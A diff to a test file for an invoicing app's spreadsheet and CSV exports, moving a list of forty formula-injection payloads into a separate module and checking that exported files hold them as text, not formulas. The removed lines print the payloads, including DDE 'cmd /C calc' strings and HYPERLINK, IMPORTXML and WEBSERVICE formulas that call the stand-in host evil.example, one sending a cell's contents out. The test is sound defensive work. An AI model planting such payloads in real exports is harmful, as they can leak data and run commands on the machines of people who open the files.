@@ -8,20 +8,12 @@ import { crc32, withoutFormulas } from '../../core/spreadsheet/index.ts'
 import { writeExport } from '../export.ts'
 import { invoiceExports } from '../invoice/export/index.ts'
 import { bytesIn, GERMAN, invoiceWith } from '../invoice/export/sample-invoice.ts'
+import { FORMULA_PAYLOADS } from './formula-payloads.ts'
 
 const context = { recordId: '00042', approvedAt: '2026-03-13T10:00:00Z', settings: {} }
 const bytesOf = (name: string, values: Readonly<Record<string, string | boolean>>) =>
   bytesIn(writeExport(invoiceExports.find((format) => format.name === name)!, invoiceWith(values), context))
 const text = (name: string, values: Readonly<Record<string, string | boolean>>) => Buffer.from(bytesOf(name, values)).toString('utf8')
-
-/** Formulas, commands, markup and separators as attackers and careless people type them. Source of the signs: ASVS 5.0 §1.2.10, OWASP «CSV Injection». */
-const PAYLOADS = [
-  '=1+1', '+1+1', '-1+1', '@SUM(1+1)', '=cmd|\' /C calc\'!A0', '-cmd|\' /C calc\'!A0', '+cmd|\' /C calc\'!A0', '@cmd|\' /C calc\'!A0',
-  '=HYPERLINK("http://evil.example?x="&A1,"ok")', '=IMPORTXML("http://evil.example","//a")', '=WEBSERVICE("http://evil.example")',
-  '=DDE("cmd";"/C calc";"x")', '\t=1+1', '\r=1+1', '\n=1+1', ' =1+1', '\u00a0=1+1', '\ufeff=1+1', '\u200b=1+1', '\0=1+1',
-  '\uff1d1+1', '\uff0b1', '\uff0d1', '\uff20A1', '"=1+1"', '";=1+1', '",=1+1', 'a;=1+1', 'a,=1+1', 'a\t=1+1', 'a\n=1+1', 'a\r\n@A1',
-  'a|=1+1', 'x,"=1+1', 'x;-cmd|1', '=2+5+cmd|\' /C calc\'!A0', '=A1', '{=1+1}', '<script>alert(1)</script>', ']]>&lt;&#61;1',
-] // biome-ignore format: one payload after another is easier to scan
 
 const dir = mkdtempSync(join(tmpdir(), 'docket-tabular-'))
 after(() => rmSync(dir, { recursive: true, force: true }))
@@ -79,7 +71,7 @@ const openpyxl = spawnSync('python3', ['-c', 'import openpyxl']).status === 0
 
 describe('tables read by other programs', { skip: openpyxl ? false : 'python3 with openpyxl is not here' }, () => {
   const payloads = Object.fromEntries(
-    PAYLOADS.flatMap((payload, i) => [
+    FORMULA_PAYLOADS.flatMap((payload, i) => [
       [`lines[${i}].name`, payload],
       [`lines[${i}].net`, '-1.50'],
       [`lines[${i}].sellerItemId`, '007'],
@@ -97,7 +89,7 @@ describe('tables read by other programs', { skip: openpyxl ? false : 'python3 wi
   }
 
   it('have forty payloads as text and no formula, negative amounts as numbers, identifiers with their zeros', () => {
-    assert.equal(PAYLOADS.length, 40)
+    assert.equal(FORMULA_PAYLOADS.length, 40)
     const all = read()
     for (const path of files.slice(2)) {
       const cells = Object.values(all[path] as Record<string, [string, unknown][][]>).flat(2)
@@ -111,7 +103,7 @@ describe('tables read by other programs', { skip: openpyxl ? false : 'python3 wi
       const clean = (payload: string) => payload.replaceAll('\0', '\ufffd').replaceAll('\r\n', '\n')
       assert.deepEqual(
         names.map(([, value]) => String(value).replaceAll('\r\n', '\n')),
-        PAYLOADS.map(clean),
+        FORMULA_PAYLOADS.map(clean),
       )
       for (const row of rows) {
         assert.deepEqual(row[at(/^(Net|Сумма без НДС)$/)], ['n', -1.5])
@@ -143,7 +135,7 @@ const soffice = spawnSync('soffice', ['--version']).status === 0
 
 describe('tables opened by LibreOffice', { skip: soffice ? false : 'LibreOffice is not here' }, () => {
   it('have no cell with a formula', () => {
-    const values = Object.fromEntries(PAYLOADS.map((payload, i) => [`lines[${i}].name`, payload]))
+    const values = Object.fromEntries(FORMULA_PAYLOADS.map((payload, i) => [`lines[${i}].name`, payload]))
     const filters: Readonly<Record<string, readonly string[]>> = {
       csv: ['--infilter=Text - txt - csv (StarCalc):44,34,76,1,,1033,false,true'],
       'ru.csv': ['--infilter=Text - txt - csv (StarCalc):59,34,76,1,,1049,false,true'],
